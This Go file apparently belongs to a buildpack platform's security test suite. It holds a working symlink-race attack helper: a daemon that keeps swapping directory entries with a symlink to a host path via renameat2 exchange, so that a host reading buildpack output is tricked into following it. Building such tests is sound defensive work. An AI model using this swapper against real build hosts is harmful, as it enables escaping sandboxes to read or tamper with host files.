package main

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// The attack suite's tool: this test binary, copied into a hostile
// buildpack as attack/tool (rows with tool set), where a shell cannot do
// what the attack needs. It runs before anything else of the binary.
//
//	attack/tool kiln-attack-swapper DIR TARGET [PID]
//
// is a daemon (start it with setsid) that, until killed, keeps swapping
// every entry of DIR with a symlink to the host path TARGET by
// renameat2(RENAME_EXCHANGE) and back, so that whoever reads DIR now and
// then finds the symlink in an entry's place; given PID (bin/build's
// shell), it starts once that process has exited, when the host reads
// what the buildpack wrote. It leaves DIR/daemon-saw-build once
// DIR/build-started exists: evidence of a daemon of detect running in
// build. DIR need not exist yet.
const attackSwapper = "kiln-attack-swapper"

func init() {
	if len(os.Args) >= 4 && os.Args[1] == attackSwapper {
		pid := 0
		if len(os.Args) > 4 {
			pid, _ = strconv.Atoi(os.Args[4])
		}
		swapForever(os.Args[2], os.Args[3], pid)
	}
}

func swapForever(dir, target string, pid int) {
	link := filepath.Join(dir, ".swap")
	touch := func(p string) {
		if f, err := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
			f.Close()
		}
	}
	for {
		entries, err := os.ReadDir(dir)
		if err != nil {
			time.Sleep(5 * time.Millisecond) // not there yet
			continue
		}
		if _, err := os.Lstat(link); err != nil {
			os.Symlink(target, link)
		}
		if pid > 0 && unix.Kill(pid, 0) != unix.ESRCH {
			time.Sleep(time.Millisecond) // bin/build still runs
			continue
		}
		for _, e := range entries {
			name := e.Name()
			switch {
			case name == "build-started":
				touch(filepath.Join(dir, "daemon-saw-build"))
				continue
			case name == ".swap" || strings.HasPrefix(name, "daemon-saw"):
				continue
			}
			p := filepath.Join(dir, name)
			unix.Renameat2(unix.AT_FDCWD, p, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
			unix.Renameat2(unix.AT_FDCWD, p, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
		}
		time.Sleep(200 * time.Microsecond)
	}
}
